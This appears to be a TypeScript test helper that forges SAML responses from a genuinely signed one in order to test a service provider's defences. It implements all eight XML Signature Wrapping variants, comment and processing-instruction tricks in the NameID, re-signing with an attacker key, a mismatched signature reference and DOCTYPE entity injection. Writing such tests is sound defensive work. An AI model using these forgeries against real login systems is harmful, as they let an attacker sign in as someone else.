/**
 * Attacks on SAML responses, forged from a REAL signed response of test/helpers/saml-idp.ts.
 *
 * The attacker holds a genuine signed response for their own account (e.g. attacker@evil.test) and
 * wants to be signed in as someone else (e.g. victim@example.com). Every function takes the signed
 * Response XML (not base64) and returns well-formed forged XML. "Victim identity" below means the
 * Subject's NameID and the `email` attribute, so the forgery targets an SP whichever of the two it
 * reads. DOM edits use @xmldom/xmldom; re-signing uses xml-crypto.
 *
 * The XML Signature Wrapping variants follow Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (USENIX Security 2012), as the SAML Raider Burp extension implements them
 * (XSWHelpers.applyXSW1..8): XSW1-2 wrap a signed Response, XSW3-8 a signed Assertion. In each, the
 * element the IdP signed is kept unchanged somewhere in the document (so its signature still
 * validates), and an evil copy with the victim's identity and a new ID is placed where a vulnerable
 * SP would read it.
 */
import { randomUUID } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { readSamlFixture, SAML_ASSERTION_NS, SAML_PROTOCOL_NS } from './saml-idp.js';

export const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';
const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
/** The namespace of the dummy element that referenceToOtherElement has the IdP sign. */
const FORGE_NS = 'urn:portico:test:forge';

/** Parses XML with @xmldom/xmldom, throwing on any parse error. */
export function parseXml(xml: string): Document {
  const fail = (message: string): never => {
    throw new Error(`malformed XML: ${message}`);
  };
  return new DOMParser({ errorHandler: { warning: () => undefined, error: fail, fatalError: fail } }).parseFromString(xml, 'text/xml');
}

/** Serializes a document (or element) back to XML text. */
export function serializeXml(node: Node): string {
  return new XMLSerializer().serializeToString(node);
}

/** The base64 form an SP receives in the SAMLResponse form field. */
export function toBase64(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

/** The element children of `parent` in the given namespace with the given local name. */
function childElements(parent: Element, ns: string, localName: string): Element[] {
  return Array.from(parent.childNodes).filter(
    (n): n is Element => n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === localName,
  );
}

/** The first child element of `parent` with that name, if any. */
function child(parent: Element, ns: string, localName: string): Element | undefined {
  return childElements(parent, ns, localName)[0];
}

/** The first child element of `parent` with that name; throws when there is none. */
function requireChild(parent: Element, ns: string, localName: string, what: string): Element {
  const found = child(parent, ns, localName);
  if (found === undefined) throw new Error(`no ${what} in the response`);
  return found;
}

/** The response document, its root samlp:Response and its (first) saml:Assertion. */
function openResponse(xml: string): { doc: Document; response: Element; assertion: Element } {
  const doc = parseXml(xml);
  const response = doc.documentElement as Element | null; // null when there is no root element
  if (response?.namespaceURI !== SAML_PROTOCOL_NS || response.localName !== 'Response') throw new Error('not a samlp:Response');
  return { doc, response, assertion: requireChild(response, SAML_ASSERTION_NS, 'Assertion', 'saml:Assertion') };
}

/** Removes the ds:Signature that is a direct child of `element`, if any. */
function removeOwnSignature(element: Element): void {
  const signature = child(element, DSIG_NS, 'Signature');
  if (signature !== undefined) element.removeChild(signature);
}

/** Replaces all children of `element` with one text node. */
function setText(element: Element, text: string): void {
  while (element.firstChild !== null) element.removeChild(element.firstChild);
  element.appendChild(element.ownerDocument.createTextNode(text));
}

/** The Subject's NameID of an assertion. */
function nameIdOf(assertion: Element): Element {
  const subject = requireChild(assertion, SAML_ASSERTION_NS, 'Subject', 'saml:Subject');
  return requireChild(subject, SAML_ASSERTION_NS, 'NameID', 'saml:NameID');
}

/** Gives an assertion the victim's identity: its NameID and every value of its `email` attribute. */
function setVictim(assertion: Element, victimNameId: string): void {
  setText(nameIdOf(assertion), victimNameId);
  for (const statement of childElements(assertion, SAML_ASSERTION_NS, 'AttributeStatement')) {
    for (const attribute of childElements(statement, SAML_ASSERTION_NS, 'Attribute')) {
      if (attribute.getAttribute('Name') !== 'email') continue;
      for (const value of childElements(attribute, SAML_ASSERTION_NS, 'AttributeValue')) setText(value, victimNameId);
    }
  }
}

/** A fresh ID for an evil element. */
function evilId(kind: string): string {
  return `_evil_${kind}_${randomUUID()}`;
}

/** A copy of the assertion with the victim's identity, a new ID and no signature. */
function evilCopy(assertion: Element, victimNameId: string): Element {
  const copy = assertion.cloneNode(true) as Element;
  removeOwnSignature(copy);
  copy.setAttribute('ID', evilId('assertion'));
  setVictim(copy, victimNameId);
  return copy;
}

/** An unchanged copy of the signed element without its own signature: what the signature's digest covers. */
function pristineCopy(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  removeOwnSignature(copy);
  return copy;
}

/** Common start of XSW1-2: the Response's own signature, or an error when the Response is not signed. */
function openSignedResponse(xml: string, variant: string): { doc: Document; response: Element; assertion: Element; signature: Element } {
  const opened = openResponse(xml);
  const signature = child(opened.response, DSIG_NS, 'Signature');
  if (signature === undefined) throw new Error(`${variant} wraps a signed Response: make it with signResponse: true`);
  return { ...opened, signature };
}

/**
 * Common start of XSW3-8: the Assertion's own signature. The Response's own signature, if any, is
 * dropped, as an attacker would: any change to the document breaks it.
 */
function openSignedAssertion(xml: string, variant: string): { doc: Document; response: Element; assertion: Element; signature: Element } {
  const opened = openResponse(xml);
  const signature = child(opened.assertion, DSIG_NS, 'Signature');
  if (signature === undefined) throw new Error(`${variant} wraps a signed Assertion: make it with signAssertion: true`);
  removeOwnSignature(opened.response);
  return { ...opened, signature };
}

/** Turns the root Response into the evil one: new ID, and its Assertion gets the victim (new ID, signature dropped). */
function makeEvilResponse(response: Element, assertion: Element, victimNameId: string): void {
  response.setAttribute('ID', evilId('response'));
  removeOwnSignature(assertion);
  assertion.setAttribute('ID', evilId('assertion'));
  setVictim(assertion, victimNameId);
}

/** XSW1: the evil Response is the root and keeps the Signature; the original signed Response (unsigned copy) moves INTO that ds:Signature. */
export function xsw1(xml: string, victimNameId: string): string {
  const { doc, response, assertion, signature } = openSignedResponse(xml, 'XSW1');
  const original = pristineCopy(response);
  makeEvilResponse(response, assertion, victimNameId);
  signature.appendChild(original);
  return serializeXml(doc);
}

/** XSW2: like XSW1, but the original signed Response goes just BEFORE the Signature, as its sibling (a detached signature). */
export function xsw2(xml: string, victimNameId: string): string {
  const { doc, response, assertion, signature } = openSignedResponse(xml, 'XSW2');
  const original = pristineCopy(response);
  makeEvilResponse(response, assertion, victimNameId);
  response.insertBefore(original, signature);
  return serializeXml(doc);
}

/** XSW3: an evil unsigned Assertion (victim, new ID) is inserted BEFORE the original signed Assertion, as its sibling. */
export function xsw3(xml: string, victimNameId: string): string {
  const { doc, response, assertion } = openSignedAssertion(xml, 'XSW3');
  response.insertBefore(evilCopy(assertion, victimNameId), assertion);
  return serializeXml(doc);
}

/** XSW4: the evil Assertion takes the original's place, and the original signed Assertion becomes the evil one's last CHILD. */
export function xsw4(xml: string, victimNameId: string): string {
  const { doc, response, assertion } = openSignedAssertion(xml, 'XSW4');
  const evil = evilCopy(assertion, victimNameId);
  response.replaceChild(evil, assertion);
  evil.appendChild(assertion);
  return serializeXml(doc);
}

/** XSW5: the Assertion in place becomes evil but KEEPS the original Signature; an unsigned copy of the original is appended at the end of the Response. */
export function xsw5(xml: string, victimNameId: string): string {
  const { doc, response, assertion } = openSignedAssertion(xml, 'XSW5');
  const original = pristineCopy(assertion);
  assertion.setAttribute('ID', evilId('assertion'));
  setVictim(assertion, victimNameId);
  response.appendChild(original);
  return serializeXml(doc);
}

/** XSW6: like XSW5, but the unsigned copy of the original goes INSIDE the evil Assertion's ds:Signature. */
export function xsw6(xml: string, victimNameId: string): string {
  const { doc, assertion, signature } = openSignedAssertion(xml, 'XSW6');
  const original = pristineCopy(assertion);
  assertion.setAttribute('ID', evilId('assertion'));
  setVictim(assertion, victimNameId);
  signature.appendChild(original);
  return serializeXml(doc);
}

/** XSW7: an evil unsigned Assertion is hidden in a samlp:Extensions element (before the original signed Assertion), where schema validation lets any foreign element through. */
export function xsw7(xml: string, victimNameId: string): string {
  const { doc, response, assertion } = openSignedAssertion(xml, 'XSW7');
  const prefix = response.prefix === null ? '' : `${response.prefix}:`;
  const extensions = doc.createElementNS(SAML_PROTOCOL_NS, `${prefix}Extensions`);
  extensions.appendChild(evilCopy(assertion, victimNameId));
  // Schema order: Issuer, Signature, Extensions, Status, then the assertions.
  const issuer = requireChild(response, SAML_ASSERTION_NS, 'Issuer', 'Response Issuer');
  response.insertBefore(extensions, issuer.nextSibling);
  return serializeXml(doc);
}

/** XSW8: the Assertion in place becomes evil and KEEPS the Signature; an unsigned copy of the original goes into a ds:Object inside that Signature. */
export function xsw8(xml: string, victimNameId: string): string {
  const { doc, assertion, signature } = openSignedAssertion(xml, 'XSW8');
  const original = pristineCopy(assertion);
  assertion.setAttribute('ID', evilId('assertion'));
  setVictim(assertion, victimNameId);
  const prefix = signature.prefix === null ? '' : `${signature.prefix}:`;
  const object = doc.createElementNS(DSIG_NS, `${prefix}Object`);
  object.appendChild(original);
  signature.appendChild(object);
  return serializeXml(doc);
}

/** All eight wrapping variants by name, for table-driven tests. */
export const XSW_VARIANTS = { xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8 } as const;

/**
 * Which signed element each variant wraps, hence which response to give it: 'Response' needs
 * `signResponse: true` from the IdP, 'Assertion' needs `signAssertion: true` (the default).
 */
export const XSW_WRAPS: Record<keyof typeof XSW_VARIANTS, 'Response' | 'Assertion'> = {
  xsw1: 'Response',
  xsw2: 'Response',
  xsw3: 'Assertion',
  xsw4: 'Assertion',
  xsw5: 'Assertion',
  xsw6: 'Assertion',
  xsw7: 'Assertion',
  xsw8: 'Assertion',
};

/**
 * Puts an empty XML comment inside the (first) Assertion's NameID text, at character offset `at`, or
 * right after the first occurrence of the string `at`: a signed `victim@example.com.evil.test` becomes
 * `victim@example.com<!---->.evil.test`. Exclusive c14n without comments drops the comment, so the
 * signature stays valid; an SP that reads only the first text node sees `victim@example.com`.
 */
export function commentInNameId(xml: string, at: number | string): string {
  const { doc, nameId, text, offset } = splitNameId(xml, at);
  while (nameId.firstChild !== null) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(text.slice(0, offset)));
  nameId.appendChild(doc.createComment(''));
  nameId.appendChild(doc.createTextNode(text.slice(offset)));
  return serializeXml(doc);
}

/**
 * Moves the NameID text after `at` (an offset, or right after that string) into a processing
 * instruction: `victim@example.com.evil.test` becomes `victim@example.com<?portico .evil.test?>`.
 * xml-crypto's exclusive c14n (6.3.2 included) renders a PI's data as if it were text, so the digest
 * is unchanged and the signature stays valid; but DOM `textContent` skips PIs, so an SP that reads the
 * NameID from the parsed document (not from xml-crypto's signed references) sees `victim@example.com`.
 */
export function processingInstructionInNameId(xml: string, at: number | string): string {
  const { doc, nameId, text, offset } = splitNameId(xml, at);
  while (nameId.firstChild !== null) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(text.slice(0, offset)));
  nameId.appendChild(doc.createProcessingInstruction('portico', text.slice(offset)));
  return serializeXml(doc);
}

/** The (first) Assertion's NameID, its text, and the offset inside it that `at` designates. */
function splitNameId(xml: string, at: number | string): { doc: Document; nameId: Element; text: string; offset: number } {
  const { doc, assertion } = openResponse(xml);
  const nameId = nameIdOf(assertion);
  const text = nameId.textContent;
  let offset: number;
  if (typeof at === 'number') {
    offset = at;
  } else {
    const found = text.indexOf(at);
    if (found < 0) throw new Error(`"${at}" is not in the NameID "${text}"`);
    offset = found + at.length;
  }
  if (offset <= 0 || offset >= text.length) throw new Error(`offset ${String(offset)} is not inside the NameID "${text}"`);
  return { doc, nameId, text, offset };
}

/** The same response with every ds:Signature removed (an unsigned Response and Assertion). */
export function stripSignatures(xml: string): string {
  const doc = parseXml(xml);
  for (const signature of Array.from(doc.getElementsByTagNameNS(DSIG_NS, 'Signature'))) signature.parentNode?.removeChild(signature);
  return serializeXml(doc);
}

/** Signs the element with that ID with xml-crypto (RSA-SHA256, exclusive c14n), putting the Signature after `locationXpath`'s element. */
function signElement(xml: string, id: string, locationXpath: string, privateKey: string, certificate: string): string {
  const signer = new SignedXml({
    privateKey,
    publicCert: certificate,
    signatureAlgorithm: RSA_SHA256,
    canonicalizationAlgorithm: EXC_C14N,
    getKeyInfoContent: (args) => SignedXml.getKeyInfoContent(args ?? { publicCert: certificate }), // KeyInfo/X509Data/X509Certificate
  });
  signer.addReference({ xpath: `//*[@ID='${id}']`, transforms: [ENVELOPED, EXC_C14N], digestAlgorithm: SHA256 });
  signer.computeSignature(xml, { prefix: 'ds', location: { reference: locationXpath, action: 'after' } });
  return signer.getSignedXml();
}

/** XPath to the Issuer of the element with that ID (where SAML puts an enveloped signature). */
function issuerOf(id: string): string {
  return `//*[@ID='${id}']/*[local-name(.)='Issuer']`;
}

/**
 * Gives the Assertion the victim's identity, drops every signature, and signs the Assertion again
 * with attacker-key.pem, attacker-cert.pem in KeyInfo/X509Data (valid only for an SP that trusts
 * the certificate a message brings along).
 */
export function resignWithAttackerKey(xml: string, victimNameId: string): string {
  const { doc, assertion } = openResponse(xml);
  for (const signature of Array.from(doc.getElementsByTagNameNS(DSIG_NS, 'Signature'))) signature.parentNode?.removeChild(signature);
  setVictim(assertion, victimNameId);
  const id = assertion.getAttribute('ID') ?? '';
  return signElement(serializeXml(doc), id, issuerOf(id), readSamlFixture('attacker-key.pem'), readSamlFixture('attacker-cert.pem'));
}

/**
 * A valid IdP signature that covers some OTHER element: the Assertion (victim identity, its own
 * signature dropped) carries, where its enveloped signature belongs, a ds:Signature made with the
 * real IdP key whose Reference URI points at a dummy element in samlp:Extensions. It stands for any
 * IdP-signed element an attacker can get hold of; an SP that checks "a valid IdP signature is in the
 * Assertion" without checking that it references the Assertion is fooled.
 */
export function referenceToOtherElement(xml: string, victimNameId: string): string {
  const { doc, response, assertion } = openResponse(xml);
  for (const signature of Array.from(doc.getElementsByTagNameNS(DSIG_NS, 'Signature'))) signature.parentNode?.removeChild(signature);
  setVictim(assertion, victimNameId);
  const prefix = response.prefix === null ? '' : `${response.prefix}:`;
  const extensions = doc.createElementNS(SAML_PROTOCOL_NS, `${prefix}Extensions`);
  const dummy = doc.createElementNS(FORGE_NS, 'forge:Signed');
  const dummyId = `_signed_dummy_${randomUUID()}`;
  dummy.setAttribute('ID', dummyId);
  dummy.appendChild(doc.createTextNode('signed by the IdP, about something else'));
  extensions.appendChild(dummy);
  const issuer = requireChild(response, SAML_ASSERTION_NS, 'Issuer', 'Response Issuer');
  response.insertBefore(extensions, issuer.nextSibling);
  const assertionId = assertion.getAttribute('ID') ?? '';
  return signElement(serializeXml(doc), dummyId, issuerOf(assertionId), readSamlFixture('idp-key.pem'), readSamlFixture('idp-cert.pem'));
}

/** Changes the Assertion's NameID (and `email` attribute) to the victim's after signing: the digest no longer matches. */
export function tamperNameId(xml: string, victimNameId: string): string {
  const { doc, assertion } = openResponse(xml);
  setVictim(assertion, victimNameId);
  return serializeXml(doc);
}

/** Escapes text for a quoted DOCTYPE entity value. */
function escapeEntityValue(text: string): string {
  return text.replace(/&/g, '&#38;').replace(/%/g, '&#37;').replace(/"/g, '&#34;').replace(/</g, '&#60;');
}

/**
 * Prepends a DOCTYPE whose internal subset declares an entity, and replaces the NameID text with a
 * reference to it (XXE / entity expansion). The entity's value is the original NameID by default,
 * so a parser that expands entities would still see a valid signature; an SP must refuse any DTD.
 */
export function withDoctype(xml: string, entityValue?: string): string {
  const { response, assertion } = openResponse(xml);
  const original = nameIdOf(assertion).textContent;
  const value = escapeEntityValue(entityValue ?? original);
  const doctype = `<!DOCTYPE ${response.tagName} [\n  <!ENTITY portico-nameid "${value}">\n]>\n`;
  const nameIdPattern = /(<(?:[A-Za-z_][\w.-]*:)?NameID\b[^>]*>)[^<]*(<\/(?:[A-Za-z_][\w.-]*:)?NameID>)/;
  if (!nameIdPattern.test(xml)) throw new Error('no NameID with plain text');
  const body = xml.replace(nameIdPattern, '$1&portico-nameid;$2');
  const declaration = /^\s*<\?xml[^?]*\?>\s*/.exec(body);
  return declaration === null ? doctype + body : declaration[0] + doctype + body.slice(declaration[0].length);
}
